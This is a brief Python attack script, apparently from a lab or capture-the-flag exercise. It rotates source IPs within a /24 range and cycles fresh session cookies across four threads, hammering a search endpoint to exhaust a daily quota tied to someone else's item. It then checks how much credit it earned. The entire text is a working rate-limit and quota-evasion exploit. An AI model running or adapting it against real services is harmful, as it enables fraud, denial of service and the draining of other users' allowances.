# one /24 (127.77.0.0/24), many cookies, exhaust segment_day_max_pix of chidi's gorilla moment
from h import *
import threading
a=earn(); print(a)
N=int(sys.argv[1]); q=sys.argv[2]; T=4; done=[0]; st={}
def work(t):
    c=None
    for i in range(N//T):
        if i%100==0:
            if c: c.close()
            c=cl(f'127.77.0.{1+(t*60+i//100)%250}')
        try:
            c.cookies.clear()
            r=c.get('/',headers={'Accept-Encoding':'identity'}); ck=r.headers.get('set-cookie','').split(';')[0]
            c.cookies.clear()
            r=c.get('/v1/search',params={'q':q,'limit':1},headers={'Cookie':ck})
            st[r.status_code]=st.get(r.status_code,0)+1
        except Exception as e: st[type(e).__name__]=st.get(type(e).__name__,0)+1
ts=[threading.Thread(target=work,args=(t,)) for t in range(T)]
t0=time.time(); [t.start() for t in ts]; [t.join() for t in ts]; print(time.time()-t0,st)
b=settle(a); print('credited',delta(a,b))
